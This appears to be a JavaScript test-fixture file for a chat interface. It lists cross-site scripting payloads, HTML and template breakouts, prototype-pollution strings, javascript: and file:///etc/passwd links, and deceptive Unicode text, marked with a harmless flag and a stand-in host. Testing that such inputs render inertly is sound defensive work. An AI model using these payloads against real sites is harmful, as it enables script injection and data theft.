// What a hostile member, a hostile link and a hostile page would like the interface to run. `MARK` stands for the script:
// it would set window.owned, and many would also fetch from elsewhere.
const MARK = 'window.owned=1'
const ELSEWHERE = 'http://elsewhere.invalid/'

const MARKUP = [
  `<script>${MARK}</script>`, `<script src=${ELSEWHERE}x.js></script>`, `<SCRIPT>${MARK}</SCRIPT>`, `<script\n>${MARK}</script\n>`, `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `<script/src=data:text/javascript,${MARK}></script>`, `<script type=module>import '${ELSEWHERE}m.js'</script>`, `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<img src=x onerror=${MARK}>`, `<img src=x onerror="${MARK}">`, `<img/src/onerror=${MARK}>`, `<IMG SRC="jav&#x09;ascript:${MARK}">`, `<img src=${ELSEWHERE}pixel.png>`, `<img srcset="${ELSEWHERE}a 1x, ${ELSEWHERE}b 2x">`,
  `<image href=x onerror=${MARK}>`, `<picture><source srcset=${ELSEWHERE}s><img></picture>`, `<svg onload=${MARK}>`, `<svg/onload=${MARK}>`, `<svg><script>${MARK}</script></svg>`, `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${MARK}"><text x=9 y=9>x</text></a></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.owned=1</script>"></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${MARK}</script></svg>#x">`,
  `<svg><set onbegin=${MARK}>`, `<svg><discard onbegin=${MARK}>`, `<math><mtext><table><mglyph><style><img src=x onerror=${MARK}>`, `<math href="javascript:${MARK}">x</math>`,
  `<iframe src="javascript:${MARK}">`, `<iframe srcdoc="<img src=x onerror=parent.owned=1>">`, `<iframe src=${ELSEWHERE}></iframe>`, `<object data="javascript:${MARK}">`, `<object data=${ELSEWHERE}o></object>`, `<embed src="javascript:${MARK}">`, `<embed src=${ELSEWHERE}e>`,
  `<body onload=${MARK}>`, `<body background=${ELSEWHERE}b>`, `<link rel=stylesheet href=${ELSEWHERE}c.css>`, `<link rel=prefetch href=${ELSEWHERE}p>`, `<link rel=dns-prefetch href=${ELSEWHERE}>`, `<style>@import '${ELSEWHERE}i.css'</style>`, `<style>*{background:url(${ELSEWHERE}u)}</style>`,
  `<div style="background:url(${ELSEWHERE}d)">x</div>`, `<div style="width:expression(${MARK})">`, `<p style="position:fixed;inset:0;background:red">over everything</p>`,
  `<base href=${ELSEWHERE}>`, `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`, `<form action=${ELSEWHERE}><button>Start chat</button></form>`, `<form><button formaction="javascript:${MARK}">Join</button></form>`,
  `<input autofocus onfocus=${MARK}>`, `<select autofocus onfocus=${MARK}>`, `<textarea autofocus onfocus=${MARK}>`, `<details open ontoggle=${MARK}>x</details>`, `<dialog open onclose=${MARK}>x</dialog>`, `<marquee onstart=${MARK}>x</marquee>`,
  `<video src=x onerror=${MARK}>`, `<video poster=${ELSEWHERE}v></video>`, `<video><source onerror=${MARK}></video>`, `<audio src=${ELSEWHERE}a autoplay onerror=${MARK}>`, `<track src=${ELSEWHERE}t>`, `<a href="javascript:${MARK}">click</a>`, `<a href="${ELSEWHERE}" ping="${ELSEWHERE}ping">x</a>`,
  `<a href="data:text/html,<script>opener.owned=1</script>" target=_blank>x</a>`, `<button onclick=${MARK}>Admit</button>`, `<portal src=${ELSEWHERE}>`, `<template><script>${MARK}</script></template>`, `<xss onpointerrawupdate=${MARK} style=display:block>x</xss>`, `<x contenteditable onbeforeinput=${MARK}>x`,
  `<keygen autofocus onfocus=${MARK}>`, `<isindex action=javascript:${MARK} type=image>`, `<frameset onload=${MARK}>`, `<table background=${ELSEWHERE}t><td>x</table>`, `<div popover id=p onbeforetoggle=${MARK}></div><button popovertarget=p>x</button>`, `<div onscrollend=${MARK} style="overflow:auto">x</div>`,
]

const BREAKOUTS = [
  `"><script>${MARK}</script>`, `'><img src=x onerror=${MARK}>`, `</p><script>${MARK}</script>`, `</title><script>${MARK}</script>`, `</textarea><script>${MARK}</script>`, `</style><script>${MARK}</script>`, `--><script>${MARK}</script>`, `]]><script>${MARK}</script>`, `</script><script>${MARK}</script>`,
  `" onmouseover="${MARK}`, `' autofocus onfocus='${MARK}`, `\`;${MARK};//`, `';${MARK};//`, `";${MARK};//`, `\\";${MARK};//`, `\${${MARK}}`, `{{constructor.constructor('${MARK}')()}}`, `#{${MARK}}`, `<%= ${MARK} %>`, `{"__proto__":{"owned":1}}`, `__proto__`, `constructor`, `toString`, `{"__html":"<img src=x onerror=${MARK}>"}`,
  `&lt;script&gt;${MARK}&lt;/script&gt;`, `&#60;script&#62;${MARK}&#60;/script&#62;`, `\u003cscript\u003e${MARK}\u003c/script\u003e`, `%3Cscript%3E${MARK}%3C/script%3E`, `+ADw-script+AD4-${MARK}+ADw-/script+AD4-`, `\uff1cscript\uff1e${MARK}\uff1c/script\uff1e`, `<\u200bscript>${MARK}</script>`, `<img src=x onerror\u000b=${MARK}>`,
]

const LINKS = [
  `javascript:${MARK}`, `JaVaScRiPt:${MARK}`, `java\tscript:${MARK}`, `javascript://example.org/%0a${MARK}`, `vbscript:${MARK}`, `data:text/html,<script>${MARK}</script>`, `data:text/html;base64,PHNjcmlwdD5vcGVuZXIub3duZWQ9MTwvc2NyaXB0Pg==`, `blob:${ELSEWHERE}x`, `file:///etc/passwd`, `view-source:${ELSEWHERE}`, `about:blank`,
  `http://user:password@elsewhere.invalid/`, `http://localhost:3000@elsewhere.invalid/`, `https://elsewhere.invalid/"onmouseover="${MARK}`, `https://elsewhere.invalid/'><script>${MARK}</script>`, `http://[::1]:3000/api/v1/shutdown`, `${ELSEWHERE}pixel.png ${ELSEWHERE}video.mp4`, `mailto:a@example.org?body=<script>${MARK}</script>`, `mailto:javascript:${MARK}`,
  `[click](javascript:${MARK})`, `![x](${ELSEWHERE}pixel.png)`, `[x]: ${ELSEWHERE}`, `<javascript:${MARK}>`, `<${ELSEWHERE}>`, `https://xn--80ak6aa92e.com/`, `https://аррӏе.com/`, `http://\u202egro.elpmaxe//:ptth`, `demes://join#${MARK}`,
]

const LOOKS = [
  `\u202e${MARK}\u202c`, `\u2066\u202eabc\u2069`, `a${'\u0301'.repeat(200)}`, '\u{1F468}\u200d'.repeat(50), 'W'.repeat(4000), 'x\n'.repeat(300), '\u0000\u0001\u0007\u001b[31mred\u001b[0m', '\ufeff\u2028\u2029 lines', '﷽'.repeat(100), '\u{E0041}\u{E0042} tags', '🏴\u{E0067}\u{E0062}', '\ud83d\ude00'.repeat(500),
]

/** Sent as messages, each by itself. */
export const TEXTS = [...MARKUP, ...BREAKOUTS, ...LINKS, ...LOOKS]

/** Short enough for a name or a title, and on one line. */
export const short = (limit) => [...MARKUP, ...BREAKOUTS, ...LINKS].filter((text) => [...text].length <= limit && !/[\p{C}\u2028\u2029]/u.test(text))

/** What a user might be talked into pasting as a link or an address. */
export const PASTED = [
  `<img src=x onerror=${MARK}>`, `javascript:${MARK}`, `demes://join#<script>${MARK}</script>`, `${ELSEWHERE}#${MARK}`, `elsewhere.invalid:4001`, `"><svg onload=${MARK}>`,
]

/** What a member could put to a message as an emoji: each begins with one, as the node demands. */
export const EMOJI = [
  `☃<img src=x onerror=${MARK}>`, `☃<script>${MARK}</script>`, `☃" onmouseover="${MARK}`, `☃ javascript:${MARK}`, `☃${ELSEWHERE}`, '☃__proto__', '☃'.repeat(20), '👩🏽‍🚀', '🏳️‍🌈', `☃${'\u0301'.repeat(20)}`,
  '☃\u202eabc', '☃\u2066abc', '☃&lt;b&gt;', '﷽', '☃\u{E0041}\u{E0042}',
]
